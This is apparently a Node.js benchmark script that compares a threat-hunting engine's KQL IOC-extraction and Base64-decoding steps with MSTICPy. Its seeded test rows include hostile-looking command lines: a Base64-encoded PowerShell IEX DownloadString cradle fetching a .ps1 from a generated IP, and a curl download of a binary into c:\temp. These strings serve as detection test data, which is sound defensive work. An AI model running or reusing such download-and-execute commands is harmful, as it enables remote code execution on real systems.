// Decode and extract: `extract_iocs` on command lines and `base64_unpack` on lines of which a fifth is encoded, each as a KQL
// step in the engine, beside MSTICPy on the same rows. The rows are the peer's own where HUNTBOOK_BENCH_PEER names the folder
// with its `bench.py` and `data/`, and HUNTBOOK_BENCH_PYTHON a Python with msticpy; otherwise seeded rows of the same kinds, and
// no peer. Compare the CPU times. `--quick`: a hundredth of the rows. Prints JSON lines.
import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { registerComputations } from '../dist/engine/computations.js';
import { computations } from '../dist/kql/computations.js';
import { compile, prelude } from '../dist/kql/index.js';
import { invokedFunctions, toolComputations } from '../dist/toolbox/index.js';

const quick = process.argv.includes('--quick');
const folder = process.env['HUNTBOOK_BENCH_PEER'];
const python = process.env['HUNTBOOK_BENCH_PYTHON'];

const works = [
  {
    name: 'extract_iocs',
    rows: quick ? 10_000 : 1_000_000,
    file: (rows) => `procs_${rows}.parquet`,
    column: 'CommandLine',
    kql: 'T | invoke extract_iocs(c) | summarize count(), sum(strlen(observable))',
    peer: 'ioc_extract_df',
    encoded: 3,
  },
  {
    name: 'base64_unpack',
    rows: quick ? 10_000 : 100_000,
    file: (rows) => `cmds_b64_${rows}.parquet`,
    column: 'cmd',
    kql: 'T | invoke base64_unpack(c) | summarize count(), sum(strlen(full_decoded_string)), dcount(sha256)',
    peer: 'b64_unpack_df',
    encoded: 20,
  },
];

for (const work of works) await run(work);

/** Rows like the peer's: most without anything, some with a URL, a name, an address or a hash, some with Base64. */
function seeded({ rows, encoded }) {
  const program =
    "'C:\\Windows\\System32\\' || ['cmd', 'svchost', 'net1', 'rundll32'][1 + k % 4] || '.exe'";
  const address =
    "concat_ws('.', 1 + k % 250, 1 + k * 7 % 250, 1 + k * 13 % 250, 1 + k * 31 % 250)";
  const script = `'IEX (New-Object Net.WebClient).DownloadString(''http://' || ${address} || '/' || k || '.ps1'')'`;
  return `SELECT CASE
    WHEN r < ${encoded} THEN 'powershell.exe -nop -encodedcommand ' || base64(encode(${script}))
    WHEN r < ${encoded} + 5 THEN [p || ' /c curl http://' || ${address} || ':8080/' || k || '/a.bin -o c:\\temp\\' || k || '.bin',
      p || ' https://cdn.example.org/path/' || k || '?q=' || k, '"' || p || '" --host=files.fabrikam.com --ip ' || ${address},
      p || ' /hash ' || md5(CAST(k AS VARCHAR)) || ' user' || k || '@login.contoso.co.uk'][1 + k % 4]
    ELSE ['"' || p || '" -k netsvcs -p -s Schedule', p || ' /c C:\\diagnostics\\task_' || k || '.cmd ' || k % 997 || ' /q',
      p || ' query "HKLM\\SOFTWARE\\Vendor\\' || k % 5000 || '" /v Value', '"' || p || '" {' || md5(CAST(k AS VARCHAR))[:8] || '-1234-5678-9abc-0000} -type ' || k % 13][1 + k % 4]
    END AS c FROM (SELECT *, ${program} AS p FROM (SELECT CAST(hash(i) % 1000000 AS BIGINT) AS k, CAST(hash(i + 1) % 100 AS BIGINT) AS r FROM range(${rows}) AS t(i)))`;
}

async function run(work) {
  const data = folder ? join(folder, 'data', work.file(work.rows)) : '';
  const connection = await (await DuckDBInstance.create(':memory:')).connect();
  registerComputations(connection, [...computations, ...toolComputations]);
  for (const statement of prelude) await connection.run(statement);
  const from = existsSync(data) ? `SELECT "${work.column}" AS c FROM '${data}'` : seeded(work);
  await connection.run(`CREATE TABLE t AS ${from}`);
  const schema = {
    tables: [{ name: 'T', columns: [{ name: 'c', type: 'string', physical: 'c' }], relation: 't' }],
    functions: invokedFunctions,
  };
  const plan = await compile(work.kql, schema, {
    nowMicros: 0n,
    probe: () => Promise.reject(new Error('no probe')),
  });
  const best = { ours_ms: Infinity, cpu_ms: Infinity };
  let found = 0;
  for (let turn = 0; turn < 3; turn++) {
    const cpu = process.cpuUsage();
    const start = performance.now();
    found = Number((await connection.runAndReadAll(plan.sql)).getRows()[0]?.[0]);
    const { user, system } = process.cpuUsage(cpu);
    best.ours_ms = Math.min(best.ours_ms, performance.now() - start);
    best.cpu_ms = Math.min(best.cpu_ms, (user + system) / 1000);
  }
  const peer = existsSync(data) ? theirs(work) : null;
  print({
    name: work.name,
    ...(peer ? { peer: 'MSTICPy 3.0.2' } : {}),
    ours_ms: best.ours_ms,
    ...(peer
      ? { peer_ms: peer.seconds * 1000, ratio: best.cpu_ms / (peer.cpu_seconds * 1000) }
      : {}),
    peak_mb: process.resourceUsage().maxRSS / 1024,
    rows: work.rows,
    found,
    cpu_ms: best.cpu_ms,
    ...(peer
      ? {
          peer_cpu_ms: peer.cpu_seconds * 1000,
          peer_peak_mb: peer.peak_rss_mb,
          peer_found: peer.results,
          times_faster_by_cpu: (peer.cpu_seconds * 1000) / best.cpu_ms,
        }
      : {}),
  });
}

/** What the peer's own script measures of the same step; null where there is no peer. */
function theirs({ peer, rows }) {
  if (!python) return null;
  const { status, stdout, stderr } = spawnSync(
    python,
    [join(folder, 'bench.py'), peer, String(rows)],
    {
      encoding: 'utf8',
      env: { ...process.env, PEER_DIR: folder, MSTICPYCONFIG: join(folder, 'msticpyconfig.yaml') },
    },
  );
  if (status !== 0) throw new Error(`${peer}: ${stderr.slice(-500)}`);
  return JSON.parse(stdout.trim().split('\n').at(-1));
}

function print(figures) {
  const round = (v) => (typeof v === 'number' ? Number(v.toFixed(v < 10 ? 3 : 0)) : v);
  const line = Object.fromEntries(Object.entries(figures).map(([k, v]) => [k, round(v)]));
  process.stdout.write(`${JSON.stringify(line)}\n`);
}
